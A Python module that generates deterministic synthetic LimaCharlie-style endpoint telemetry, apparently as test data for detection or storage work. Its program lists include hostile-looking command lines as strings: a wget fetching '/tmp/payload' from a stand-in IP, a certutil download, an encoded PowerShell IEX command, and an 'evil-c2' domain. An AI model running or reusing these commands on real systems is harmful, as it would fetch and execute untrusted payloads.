"""Deterministic synthetic telemetry in LimaCharlie's event shape.

Events come in chunks of :data:`CHUNK_SIZE`. Each chunk covers its own slice of
the time range, in time order, and draws from a random generator seeded with
the seed and the chunk number. The output therefore depends only on the
arguments, and chunks can be built by several processes at once.
"""

from __future__ import annotations

import json
import random
import uuid
from dataclasses import dataclass

#: Events per chunk: the unit of work handed to a build process.
CHUNK_SIZE = 50_000

#: Organization id written into generated routing records.
DEFAULT_OID = "8cbe27f4-bfa1-4afb-ba19-138cd51389cd"

#: Default first event time: 2024-01-01T00:00:00Z, in unix seconds, fixed so
#: that a seed alone decides the data.
DEFAULT_START_TIME = 1_704_067_200

PLAT_WINDOWS = 0x10000000
PLAT_LINUX = 0x20000000
PLAT_MACOS = 0x30000000

#: Relative frequency of each event type on a Windows host.
WINDOWS_WEIGHTS = {
    "NEW_PROCESS": 18,
    "TERMINATE_PROCESS": 8,
    "NETWORK_CONNECTIONS": 14,
    "DNS_REQUEST": 18,
    "FILE_CREATE": 10,
    "MODULE_LOAD": 12,
    "WEL": 20,
}

#: Linux and macOS sensors send no Windows event logs.
UNIX_WEIGHTS = {key: value for key, value in WINDOWS_WEIGHTS.items() if key != "WEL"}

WINDOWS_PROGRAMS = [
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "whoami /all"'),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir C:\\Users\\Public"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File update.ps1",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    ),
    ("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"),
    ("C:\\Windows\\System32\\reg.exe", "reg.exe query HKLM\\Software\\Microsoft"),
    ("C:\\Windows\\System32\\net.exe", "net.exe user /domain"),
    ("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe /query /fo LIST"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"chrome.exe" --type=renderer --lang=en-US',
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\report.docx"',
    ),
    ("C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -f update.bin"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding"),
]

WINDOWS_PARENTS = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k DcomLaunch -p"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe"),
]

UNIX_PROGRAMS = [
    ("/usr/bin/bash", "bash -c 'uptime'"),
    ("/usr/bin/curl", "curl -s https://updates.example.com/agent.tar.gz"),
    ("/usr/bin/python3", "python3 /opt/app/worker.py --queue default"),
    ("/usr/sbin/sshd", "sshd: admin [priv]"),
    ("/usr/bin/sudo", "sudo systemctl restart nginx"),
    ("/usr/bin/ls", "ls -la /tmp"),
    ("/usr/bin/wget", "wget -q -O /tmp/payload http://198.51.100.23/p"),
]

UNIX_PARENTS = [
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/cron", "/usr/sbin/cron -f"),
]

DOMAINS = [
    "www.google.com",
    "login.microsoftonline.com",
    "github.com",
    "updates.example.com",
    "cdn.example.net",
    "api.limacharlie.io",
    "outlook.office365.com",
    "evil-c2.example.org",
    "time.windows.com",
    "slack.com",
]

WINDOWS_FILES = [
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp{n}.tmp",
    "C:\\Users\\{user}\\Downloads\\invoice_{n}.pdf",
    "C:\\Windows\\Temp\\setup_{n}.log",
    "C:\\ProgramData\\Updater\\cache_{n}.dat",
    "C:\\Users\\{user}\\Documents\\notes_{n}.txt",
]

UNIX_FILES = ["/tmp/tmp.{n}", "/var/log/app/{n}.log", "/home/{user}/.cache/{n}"]

MODULES = [
    "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\advapi32.dll",
    "C:\\Windows\\System32\\amsi.dll",
    "C:\\Windows\\System32\\wininet.dll",
]

#: Windows Security event ids and their channel: logon, failed logon, process
#: creation, object access, special privileges, service installed.
WEL_EVENTS = [
    ("4624", "Security", "An account was successfully logged on."),
    ("4625", "Security", "An account failed to log on."),
    ("4688", "Security", "A new process has been created."),
    ("4663", "Security", "An attempt was made to access an object."),
    ("4672", "Security", "Special privileges assigned to new logon."),
    ("7045", "System", "A service was installed in the system."),
]

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "svc_backup", "admin"]


@dataclass(frozen=True)
class Host:
    """One sensor of the generated fleet."""

    sid: str
    hostname: str
    plat: int
    arch: int
    int_ip: str
    ext_ip: str


def make_fleet(seed: int, count: int) -> list[Host]:
    """Build the sensors that a seed's events come from."""
    rng = random.Random(f"fleet:{seed}")
    hosts = []
    for index in range(count):
        roll = rng.random()
        if roll < 0.7:
            plat, name = PLAT_WINDOWS, f"win-{index:03d}.corp.example.com"
        elif roll < 0.9:
            plat, name = PLAT_LINUX, f"lnx-{index:03d}.corp.example.com"
        else:
            plat, name = PLAT_MACOS, f"mac-{index:03d}.corp.example.com"
        hosts.append(
            Host(
                sid=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                hostname=name,
                plat=plat,
                arch=2,
                int_ip=_ip(
                    "10", rng.randrange(16), rng.randrange(256), index % 250 + 2
                ),
                ext_ip=f"203.0.113.{rng.randrange(1, 255)}",
            )
        )
    return hosts


def _ip(*octets: object) -> str:
    return ".".join(str(octet) for octet in octets)


def fleet_size(total: int) -> int:
    """Return the number of sensors for a store of ``total`` events."""
    return max(8, min(200, total // 5000))


def _weighted(weights: dict[str, int]) -> tuple[list[str], list[int]]:
    names = list(weights)
    cumulative = []
    running = 0
    for name in names:
        running += weights[name]
        cumulative.append(running)
    return names, cumulative


class _EventFactory:
    """Builds the ``event`` part of each record from one random generator."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def address(self, prefix: str) -> str:
        """Return a random address that starts with a two-octet prefix."""
        return f"{prefix}.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"

    def pid(self) -> int:
        return self.rng.randrange(4, 65536, 4)

    def program(self, host: Host) -> tuple[str, str]:
        catalog = WINDOWS_PROGRAMS if host.plat == PLAT_WINDOWS else UNIX_PROGRAMS
        return catalog[self.rng.randrange(len(catalog))]

    def parent(self, host: Host) -> tuple[str, str]:
        catalog = WINDOWS_PARENTS if host.plat == PLAT_WINDOWS else UNIX_PARENTS
        return catalog[self.rng.randrange(len(catalog))]

    def user(self, host: Host) -> str:
        name = USERS[self.rng.randrange(len(USERS))]
        if host.plat == PLAT_WINDOWS:
            return f"CORP\\{name}"
        return name

    def new_process(self, host: Host) -> dict:
        path, command_line = self.program(host)
        parent_path, parent_command_line = self.parent(host)
        parent_pid = self.pid()
        user = self.user(host)
        return {
            "FILE_PATH": path,
            "COMMAND_LINE": command_line,
            "PROCESS_ID": self.pid(),
            "PARENT_PROCESS_ID": parent_pid,
            "USER_NAME": user,
            "HASH": f"{self.rng.getrandbits(256):064x}",
            "PARENT": {
                "FILE_PATH": parent_path,
                "COMMAND_LINE": parent_command_line,
                "PROCESS_ID": parent_pid,
                "USER_NAME": user,
            },
        }

    def terminate_process(self, host: Host) -> dict:
        path, _ = self.program(host)
        return {
            "FILE_PATH": path,
            "PROCESS_ID": self.pid(),
            "PARENT_PROCESS_ID": self.pid(),
        }

    def network_connections(self, host: Host) -> dict:
        path, _ = self.program(host)
        activity = []
        for _ in range(self.rng.randrange(1, 4)):
            activity.append(
                {
                    "SOURCE": {
                        "IP_ADDRESS": host.int_ip,
                        "PORT": self.rng.randrange(49152, 65536),
                    },
                    "DESTINATION": {
                        "IP_ADDRESS": (
                            f"{self.rng.choice((93, 140, 151, 198))}."
                            f"{self.rng.randrange(256)}.{self.rng.randrange(256)}."
                            f"{self.rng.randrange(1, 255)}"
                        ),
                        "PORT": self.rng.choice(
                            (443, 443, 443, 80, 53, 22, 3389, 8080)
                        ),
                    },
                    "PROTOCOL": self.rng.choice(("tcp4", "tcp4", "udp4")),
                    "IS_OUTGOING": 1,
                }
            )
        return {
            "FILE_PATH": path,
            "PROCESS_ID": self.pid(),
            "NETWORK_ACTIVITY": activity,
        }

    def dns_request(self, host: Host) -> dict:
        return {
            "DOMAIN_NAME": DOMAINS[self.rng.randrange(len(DOMAINS))],
            "DNS_TYPE": self.rng.choice((1, 1, 1, 28, 5)),
            "IP_ADDRESS": self.address("151.101"),
            "MESSAGE_ID": self.rng.randrange(65536),
            "PROCESS_ID": self.pid(),
        }

    def file_create(self, host: Host) -> dict:
        catalog = WINDOWS_FILES if host.plat == PLAT_WINDOWS else UNIX_FILES
        template = catalog[self.rng.randrange(len(catalog))]
        user = USERS[self.rng.randrange(len(USERS))]
        path, _ = self.program(host)
        return {
            "FILE_PATH": template.format(user=user, n=self.rng.randrange(100000)),
            "PROCESS_ID": self.pid(),
            "PARENT": {"FILE_PATH": path},
        }

    def module_load(self, host: Host) -> dict:
        if host.plat == PLAT_WINDOWS:
            module = MODULES[self.rng.randrange(len(MODULES))]
        else:
            module = self.rng.choice(("/usr/lib/libc.so.6", "/usr/lib/libssl.so.3"))
        return {
            "FILE_PATH": module,
            "PROCESS_ID": self.pid(),
            "HASH": f"{self.rng.getrandbits(256):064x}",
            "MODULE_SIZE": self.rng.randrange(4096, 4_000_000),
        }

    def wel(self, host: Host, ts_ms: int) -> dict:
        event_id, channel, message = WEL_EVENTS[self.rng.randrange(len(WEL_EVENTS))]
        user = USERS[self.rng.randrange(len(USERS))]
        data = {
            "SubjectUserName": user,
            "TargetUserName": USERS[self.rng.randrange(len(USERS))],
            "IpAddress": self.address(f"10.{self.rng.randrange(16)}"),
            "LogonType": str(self.rng.choice((2, 3, 3, 10))),
        }
        if event_id == "4663":
            data["ObjectName"] = (
                f"C:\\Users\\{user}\\Documents\\secret_{self.rng.randrange(100)}.xlsx"
            )
            data["ProcessName"] = self.program(host)[0]
        return {
            "EVENT": {
                "System": {
                    "EventID": event_id,
                    "Channel": channel,
                    "Computer": host.hostname,
                    "Provider": {"Name": "Microsoft-Windows-Security-Auditing"},
                    "EventRecordID": str(self.rng.randrange(1, 10_000_000)),
                    "TimeCreated": {"SystemTime": ts_ms},
                },
                "EventData": data,
                "Message": message,
            }
        }


def generate_chunk(
    seed: int,
    chunk: int,
    count: int,
    first_ms: int,
    last_ms: int,
    oid: str,
    hosts: list[Host],
) -> list[tuple[int, str, str, str]]:
    """Generate one chunk as ``(event_time_ms, event_type, stream, json)`` rows.

    Rows are in event-time order inside [first_ms, last_ms).
    """
    rng = random.Random(f"events:{seed}:{chunk}")
    factory = _EventFactory(rng)
    width = max(1, last_ms - first_ms)
    times = sorted(first_ms + int(rng.random() * width) for _ in range(count))
    windows_types = _weighted(WINDOWS_WEIGHTS)
    unix_types = _weighted(UNIX_WEIGHTS)
    builders = {
        "NEW_PROCESS": factory.new_process,
        "TERMINATE_PROCESS": factory.terminate_process,
        "NETWORK_CONNECTIONS": factory.network_connections,
        "DNS_REQUEST": factory.dns_request,
        "FILE_CREATE": factory.file_create,
        "MODULE_LOAD": factory.module_load,
    }
    dumps = json.JSONEncoder(separators=(",", ":")).encode
    rows = []
    for ts in times:
        host = hosts[rng.randrange(len(hosts))]
        names, cumulative = windows_types if host.plat == PLAT_WINDOWS else unix_types
        pick = rng.random() * cumulative[-1]
        event_type = names[
            next(i for i, bound in enumerate(cumulative) if pick < bound)
        ]
        if event_type == "WEL":
            event = factory.wel(host, ts)
        else:
            event = builders[event_type](host)
        routing = {
            "oid": oid,
            "sid": host.sid,
            "hostname": host.hostname,
            "event_type": event_type,
            "event_time": ts,
            "event_id": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            "plat": host.plat,
            "arch": host.arch,
            "int_ip": host.int_ip,
            "ext_ip": host.ext_ip,
            "this": f"{rng.getrandbits(128):032x}",
        }
        rows.append(
            (ts, event_type, "event", dumps({"routing": routing, "event": event}))
        )
    return rows


def chunk_plan(
    total: int, start_time: int, span_days: float
) -> list[tuple[int, int, int, int]]:
    """Split a store into ``(chunk, count, first_ms, last_ms)`` pieces in time order."""
    first_ms = start_time * 1000
    span_ms = max(1, int(span_days * 86_400_000))
    chunks = max(1, -(-total // CHUNK_SIZE))
    plan = []
    for chunk in range(chunks):
        count = total * (chunk + 1) // chunks - total * chunk // chunks
        low = first_ms + span_ms * chunk // chunks
        high = first_ms + span_ms * (chunk + 1) // chunks
        plan.append((chunk, count, low, high))
    return plan
